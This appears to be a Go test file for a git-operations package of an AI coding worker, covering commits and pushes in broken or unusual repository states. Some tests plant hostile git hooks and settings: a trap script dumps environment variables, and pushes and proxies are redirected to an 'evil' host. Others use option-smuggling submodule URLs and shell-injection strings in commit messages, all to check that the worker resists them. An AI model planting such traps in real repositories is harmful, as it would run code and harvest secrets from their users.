package gitops_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ai-coding-worker/ai-coding-worker/gitops"
)

func TestNothingToCommit(t *testing.T) {
	b := newBench(t, someFiles)
	repo := b.clone()
	b.startBranch(repo, "aicw/x")
	if c := b.commit(repo, "x"); c.New || c.Hash != repo.Base() || c.Files != 0 {
		t.Errorf("commit: %+v", c)
	}
}

func TestCommittingIsToldOnlyWhenItHappens(t *testing.T) {
	b := newBench(t, someFiles)
	repo := b.clone()
	told := 0
	commit := func() {
		if _, err := repo.Commit(t.Context(), "x", func() { told++ }); err != nil {
			t.Fatal(err)
		}
	}
	commit()
	b.sh("git commit -q --allow-empty -m own")
	commit()
	if told != 0 {
		t.Error("told without a change")
	}
	b.sh("echo 1 > a")
	commit()
	if told != 1 {
		t.Errorf("told %d times", told)
	}
}

func TestWhatCannotBeCommittedIsTold(t *testing.T) {
	b := newBench(t, someFiles)
	repo := b.clone()
	b.startBranch(repo, "aicw/x")
	b.sh(`git init -q unborn; echo x > unborn/f
		git init -q born; git -C born -c user.name=x -c user.email=x commit -q --allow-empty -m x
		rm README.md; mkfifo README.md; echo ok > fine`)
	c := b.commit(repo, "x")
	notes := strings.Join(c.Notes, "\n")
	for _, want := range []string{"unborn", "born is a repository of its own", "README.md"} {
		if !strings.Contains(notes, want) {
			t.Errorf("notes do not tell of %s:\n%s", want, notes)
		}
	}
	if got := b.sh("git show --name-only --format= HEAD"); got != "born\nfine" {
		t.Errorf("committed:\n%s", got)
	}
	b.push(repo, c.Hash, "aicw/x")
}

func TestUnreadableFile(t *testing.T) {
	b := newBench(t, someFiles)
	if b.agent.UID() == 0 {
		t.Fatal("the agent is root")
	}
	repo := b.clone()
	b.sh("echo x > closed; chmod 0 closed; echo ok > fine")
	c := b.commit(repo, "x")
	if len(c.Notes) == 0 || !strings.Contains(c.Notes[0], "closed") || c.Files != 1 {
		t.Errorf("commit: %+v", c)
	}
}

// TestFilesThatMakeGitGiveUp has changes of which git add -A stages none, because it cannot convert some.
func TestFilesThatMakeGitGiveUp(t *testing.T) {
	tests := map[string]struct {
		script string
		bad    []string // in the notes, in this order
	}{
		"an encoding": {`printf odd > 'a bad.rc'; mkdir -p deep/er; printf odd > deep/er/bad.rc; printf odd > z.rc`, []string{"a bad.rc", "deep/er/bad.rc", "z.rc"}},
		"a filter":    {`git config filter.f.clean false; git config filter.f.required true; echo 1 > secret.f`, []string{"secret.f"}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			b := newBench(t, nil)
			b.seed(`printf '*.rc working-tree-encoding=UTF-16\n*.f filter=f\n' > .gitattributes; mkdir src; for i in $(seq 40); do echo $i > src/$i; done; echo 1 > gone`)
			repo := b.clone()
			b.startBranch(repo, branch)
			b.sh(`rm gone; echo 2 > src/7; echo new > new; echo 1 > '*.log'
` + tt.script)
			c := b.commit(repo, "x")
			if len(c.Notes) != len(tt.bad) {
				t.Fatalf("notes: %q", c.Notes)
			}
			for i, bad := range tt.bad {
				if !strings.HasPrefix(c.Notes[i], "not committed: "+bad+": ") {
					t.Errorf("note: %s", c.Notes[i])
				}
			}
			b.push(repo, c.Hash, branch)
			if got := b.onHost("diff", "--no-renames", "--name-status", "main", branch); got != "A\t*.log\nD\tgone\nA\tnew\nM\tsrc/7" {
				t.Errorf("on the host:\n%s", got)
			}
		})
	}
}

// TestAddThatFailsForNoFile has git give up for a reason that leaving files out does not help against.
func TestAddThatFailsForNoFile(t *testing.T) {
	b := newBench(t, someFiles)
	repo := b.clone()
	b.startBranch(repo, branch)
	b.sh("echo 1 > a; echo 1 > b; echo '[' >> .git/config")
	if _, err := repo.Commit(t.Context(), "x", nil); !errors.Is(err, gitops.ErrBadCheckout) {
		t.Errorf("commit: %v", err)
	}
}

func TestSubmoduleAtAnotherCommit(t *testing.T) {
	b := newBench(t, nil)
	b.seed("git init -q lib; git -C lib commit -q --allow-empty -m x")
	repo := b.clone()
	b.startBranch(repo, branch)
	b.sh(fixed + "git init -q lib; git -C lib commit -q --allow-empty -m other")
	if c := b.commit(repo, "x"); len(c.Notes) != 1 || !strings.HasPrefix(c.Notes[0], "lib is a submodule, and at another commit now") {
		t.Errorf("commit: %+v", c)
	}
}

// TestWorkThatIsLeftAside has the agent end somewhere else than where it has worked.
func TestWorkThatIsLeftAside(t *testing.T) {
	tests := map[string]struct {
		script string
		want   []string // beginnings of the notes
		isNew  bool
	}{
		"a branch":    {"git checkout -q -b feature; echo 1 > f; git add f; git commit -qm own; git checkout -q -", []string{"not pushed: commits on the agent's branch feature (1)"}, false},
		"a stash":     {"echo 1 > README.md; git stash -q; echo 2 > other", []string{"not committed: what the agent has put into git's stash"}, true},
		"taken along": {"git checkout -q -b feature; echo 1 > f; git add f; git commit -qm own; git checkout -q -; git merge -q feature", nil, true},
		"the host's":  {"git branch old; git checkout -q --orphan fresh; git commit -qm fresh", nil, true},
		"a stop half way": {`git checkout -q -b onto; echo 1 > README.md; git commit -qam one; git checkout -q -; echo 2 > README.md; git commit -qam two
			! git rebase -q onto >/dev/null 2>&1`, []string{"not pushed: commits on the agent's branch " + branch + " (1)"}, true},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			b := newBench(t, someFiles)
			repo := b.clone()
			b.startBranch(repo, branch)
			b.sh(tt.script)
			c := b.commit(repo, "x")
			if c.New != tt.isNew || len(c.Notes) != len(tt.want) {
				t.Fatalf("commit: %+v", c)
			}
			for i, want := range tt.want {
				if !strings.HasPrefix(c.Notes[i], want) {
					t.Errorf("note: %s", c.Notes[i])
				}
			}
		})
	}
}

func TestAgentsOwnCommits(t *testing.T) {
	tests := map[string]struct {
		script  string
		commits int
	}{
		"on the session's branch": {"git commit -q --allow-empty -m own", 1},
		"on a branch of its own":  {"git checkout -q -b mine; git commit -q --allow-empty -m own; git commit -q --allow-empty -m own2", 2},
		"detached":                {"git checkout -q --detach; git commit -q --allow-empty -m own", 1},
		"with changes beside":     {"echo 1 > own; git add own; git commit -q -m own; echo 2 > rest", 2},
		"merged":                  {"git checkout -q -b mine; git commit -q --allow-empty -m own; git checkout -q -; git merge -q --no-ff mine -m merge", 2},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			b := newBench(t, someFiles)
			repo := b.clone()
			b.startBranch(repo, "aicw/x")
			b.sh(tt.script)
			c := b.commit(repo, "feat: x")
			if !c.New || c.Commits != tt.commits {
				t.Errorf("commit: %+v", c)
			}
			b.push(repo, c.Hash, "aicw/x")
			if got := b.onHost("rev-list", "--count", "main..aicw/x"); got != b.sh("git rev-list --count origin/main..HEAD") {
				t.Errorf("%s commits on the host", got)
			}
			if got := b.onHost("log", "--format=%an", "main..aicw/x"); strings.Trim(strings.ReplaceAll(got, "AI Coding Worker", ""), "\n") != "" {
				t.Errorf("authors:\n%s", got)
			}
			if got := b.onHost("for-each-ref", "--format=%(refname)"); got != "refs/heads/aicw/x\nrefs/heads/main" {
				t.Errorf("refs on the host:\n%s", got)
			}
		})
	}
}

func TestCommitInTheMiddleOfSomething(t *testing.T) {
	tests := map[string]string{
		"a merge conflict": `git checkout -q -b other; echo 1 > README.md; git commit -qam one; git checkout -q -; echo 2 > README.md; git commit -qam two
			! git merge -q other >/dev/null`,
		"a rebase": `git checkout -q -b other; echo 1 > README.md; git commit -qam one; git checkout -q -; echo 2 > README.md; git commit -qam two
			! git rebase -q other >/dev/null 2>&1`,
		"a killed git": "echo 1 > README.md; : > .git/index.lock; : > .git/HEAD.lock; : > .git/refs/heads/aicw/x.lock",
	}
	for name, script := range tests {
		t.Run(name, func(t *testing.T) {
			b := newBench(t, someFiles)
			repo := b.clone()
			b.startBranch(repo, "aicw/x")
			b.sh(script)
			c := b.commit(repo, "wip: x")
			if !c.New {
				t.Errorf("commit: %+v", c)
			}
			if got := b.sh("git status --porcelain"); got != "" {
				t.Errorf("left over:\n%s", got)
			}
			b.push(repo, c.Hash, "aicw/x")
		})
	}
}

func TestMessageIsTakenLiterally(t *testing.T) {
	b := newBench(t, someFiles)
	repo := b.clone()
	b.sh("echo 1 > a")
	prompt := "Add \"$(touch /tmp/p)\" `id`\n\n# not a comment\nCo-authored-by: x <x@y>\x00\x1b[31m"
	b.commit(repo, gitops.CommitMessage(prompt, false))
	want := "feat: add \"$(touch /tmp/p)\" `id\n\nAdd \"$(touch /tmp/p)\" `id`\n\n# not a comment\nCo-authored-by: x <x@y>[31m"
	if diff := cmp.Diff(want, b.sh("git log -1 --format=%B")); diff != "" {
		t.Errorf("message (-want +got):\n%s", diff)
	}
}

// traps are settings and files by which a repository makes git run something; each appends what it sees to the file $1.
const traps = `
	cat > "$PWD/../trap" <<'END'
#!/bin/sh
{ echo "ran $(basename "$0") $1"; id -u; env; tr '\0' '\n' < /proc/$PPID/environ; } >> "$(dirname "$0")/seen" 2>/dev/null
[ "$1" = clean ] && exec cat
exit 0
END
	chmod 755 "$PWD/../trap"; trap=$(readlink -f "$PWD/../trap")
	mkdir -p .git/hooks hooks
	for h in pre-commit commit-msg prepare-commit-msg post-commit pre-push post-checkout post-merge post-index-change reference-transaction post-rewrite pre-auto-gc; do
		cp "$trap" .git/hooks/$h; done
	git config core.fsmonitor "$trap"; git config core.hooksPath "$PWD/.git/hooks"; git config core.sshCommand "$trap"; git config core.pager "$trap"
	git config core.editor "$trap"; git config gpg.program "$trap"; git config commit.gpgSign true; git config diff.external "$trap"
	git config filter.evil.clean "$trap clean"; git config filter.evil.smudge "$trap clean"; git config filter.evil.required true
	git config credential.helper "$trap"; git config http.proxy "$EVIL"; git config "url.$EVIL/.insteadOf" "$ORIGIN"; git config "url.$EVIL/.pushInsteadOf" "$ORIGIN"
	git config remote.origin.pushurl "$EVIL/x.git"; git config remote.origin.url "$EVIL/y.git"; git config core.alternateRefsCommand "$trap"
	git config uploadpack.packObjectsHook "$trap"; git config extensions.partialClone origin; git config remote.origin.promisor true
	printf '* filter=evil diff=evil\n' > .gitattributes`

func TestHostileConfiguration(t *testing.T) {
	b := newBench(t, someFiles)
	evil := newBench(t, someFiles).host
	repo := b.clone()
	b.startBranch(repo, "aicw/x")
	b.sh("EVIL=" + evil.URL() + " ORIGIN=" + b.host.URL() + "\n" + traps + "\necho 1 > new")
	c := b.commit(repo, "x")
	b.push(repo, c.Hash, "aicw/x")
	if err := repo.Close(); err != nil {
		t.Fatal(err)
	}
	b.hostCommit("aicw/x", map[string]string{"later": "1"})
	if _, moved := b.reopen("aicw/x"); moved != gitops.MovedForward {
		t.Errorf("moved: %v", moved)
	}

	if got := evil.Requests(); len(got) > 0 {
		t.Errorf("the other host was asked: %+v", got)
	}
	seen := b.sh("cat ../seen")
	if strings.Contains(seen, token) {
		t.Error("something of the repository saw the token")
	}
	for line := range strings.Lines(seen) {
		if line == "0\n" && b.agent.UID() != 0 {
			t.Error("something of the repository ran as root")
		}
		if strings.HasPrefix(line, "ran ") && line != "ran trap clean\n" {
			t.Errorf("git %s", line)
		}
	}
	// The filter is the one that cannot be switched off. That it ran shows that the trap works.
	if !strings.Contains(seen, "GIT_CONFIG_GLOBAL=/dev/null") {
		t.Errorf("the filter did not run under the worker's settings:\n%s", seen)
	}
	if got := b.onHost("rev-parse", "aicw/x~1"); got != c.Hash {
		t.Errorf("the host has %s below, want %s", got, c.Hash)
	}
}

// TestRepositoryThatIsGone takes the repository away from under the files: they are a change to what was there before.
func TestRepositoryThatIsGone(t *testing.T) {
	tests := map[string]string{
		"nothing":       "rm -rf .git",
		"a folder":      "rm -rf .git/HEAD .git/objects",
		"a file":        "rm -rf .git; echo nonsense > .git",
		"a worktree's":  "rm -rf .git; echo 'gitdir: /nowhere' > .git",
		"a link":        "mv .git ../away; ln -s ../nowhere .git",
		"no file there": "rm -rf .git; mkfifo .git",
	}
	for name, script := range tests {
		t.Run(name, func(t *testing.T) {
			b := newBench(t, someFiles)
			b.hostCommit("main", map[string]string{"more": "1"}) // so that the clone is cut
			repo := b.clone()
			b.startBranch(repo, branch)
			base := repo.Base()
			b.sh("echo 2 > new; rm src/main.go; " + script)
			c := b.commit(repo, "x")
			if !c.New || c.Commits != 1 || c.Files != 2 || len(c.Notes) != 1 || !strings.Contains(c.Notes[0], "in a new one") {
				t.Errorf("commit: %+v", c)
			}
			if pushed := b.push(repo, c.Hash, branch); pushed != branch {
				t.Errorf("pushed to %s", pushed)
			}
			if got := b.onHost("rev-parse", branch+"~1"); got != base {
				t.Errorf("it stands on %s, want %s", got, base)
			}
			if got := b.sh("git symbolic-ref HEAD; git status --porcelain; git fsck"); got != "refs/heads/"+branch {
				t.Errorf("the checkout:\n%s", got)
			}
			if err := repo.Close(); err != nil {
				t.Fatal(err)
			}
			if again, moved := b.reopen(branch); moved != gitops.MovedNot || again.Base() != c.Hash {
				t.Errorf("reopened: moved %v, base %s", moved, again.Base())
			}
		})
	}
}

func TestRepositoryThatIsGoneAfterAResume(t *testing.T) {
	b := newBench(t, someFiles)
	session(b)
	tip := b.hostCommit(branch, map[string]string{"theirs": "1"})
	repo, _ := b.reopen(branch)
	b.sh("rm -rf .git; echo 2 > second")
	c := b.commit(repo, "second")
	if pushed := b.push(repo, c.Hash, branch); pushed != branch || c.Files != 1 {
		t.Errorf("pushed to %s, %+v", pushed, c)
	}
	if got := b.onHost("rev-parse", branch+"~1"); got != tip {
		t.Errorf("it stands on %s, want %s", got, tip)
	}
}

func TestRepositoryThatIsGoneBeforeTheFirstCommit(t *testing.T) {
	b := newBench(t, nil)
	repo := b.clone()
	b.startBranch(repo, branch)
	b.sh("rm -rf .git; echo 1 > a")
	if c := b.commit(repo, "first"); b.push(repo, c.Hash, branch) != branch || c.Files != 1 {
		t.Errorf("commit: %+v", c)
	}
}

// TestAnotherHistory has the agent commit what no longer stands on the history that was cloned.
func TestAnotherHistory(t *testing.T) {
	tests := map[string]struct {
		script  string // %s is the host
		commits int
		notes   string
	}{
		"a repository of its own": {"rm -rf .git; git init -q; git add -A; git -c user.name=x -c user.email=x@x commit -qm own; : %s", 2, "no history in common"},
		"older than the clone":    {"git fetch -q --unshallow %s main; git reset -q --hard HEAD~2", 1, ""},
		"merged with more":        {"git fetch -q --depth 2 %s side; git merge -q --allow-unrelated-histories -m merged FETCH_HEAD", 4, ""},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			b := newBench(t, someFiles)
			for _, side := range []string{"1", "2", "3"} {
				b.hostCommit("side", map[string]string{"side": side})
			}
			for _, more := range []string{"1", "2", "3"} {
				b.hostCommit("main", map[string]string{"more": more})
			}
			repo := b.clone()
			b.startBranch(repo, branch)
			b.sh(fmt.Sprintf(tt.script, b.withToken()) + "; echo 1 > new")
			c := b.commit(repo, "x")
			if !c.New || c.Commits != tt.commits || !strings.Contains(strings.Join(c.Notes, ""), tt.notes) {
				t.Errorf("commit: %+v", c)
			}
			if pushed := b.push(repo, c.Hash, branch); pushed != branch {
				t.Errorf("pushed to %s", pushed)
			}
			if got := b.onHost("show", branch+":new"); got != "1" {
				t.Errorf("new: %q", got)
			}
			b.onHost("fsck", "--connectivity-only")
		})
	}
}

func TestForbiddenObjects(t *testing.T) {
	tests := map[string]string{
		"a folder .git": `t=$(git mktree </dev/null); r=$(printf '040000 tree %s\t.git\n' $t | git hash-object --literally -t tree -w --stdin 2>/dev/null || true)
			raw() { printf '40000 .git\0'; printf %s $t | sed 's/../\\x&/g' | xargs -0 printf '%b'; }; r=$(raw | git hash-object --literally -t tree -w --stdin); git update-ref HEAD $(git commit-tree $r -p HEAD -m x)`,
		"a submodule's url that is an option": `printf '[submodule "x"]\n\tpath = x\n\turl = --upload-pack=touch\n' > .gitmodules; git add .gitmodules; git commit -qm x`,
		"a tree that is missing":              `r=$(git rev-parse HEAD^{tree}); echo unique-$$ > u; git add u; git commit -qm x; f=$(git rev-parse HEAD:u); rm -f .git/objects/$(echo $f | cut -c1-2)/$(echo $f | cut -c3-)`,
	}
	for name, script := range tests {
		t.Run(name, func(t *testing.T) {
			b := newBench(t, someFiles)
			repo := b.clone()
			b.startBranch(repo, "aicw/x")
			b.sh(script)
			hash := b.sh("git rev-parse HEAD")
			err := repo.Push(t.Context(), hash, "aicw/x")
			if !errors.Is(err, gitops.ErrBadObjects) && !errors.Is(err, gitops.ErrBadCheckout) {
				t.Errorf("push: %v", err)
			}
			if got := b.onHost("for-each-ref", "--format=%(refname)"); got != "refs/heads/main" {
				t.Errorf("refs on the host:\n%s", got)
			}
		})
	}
}
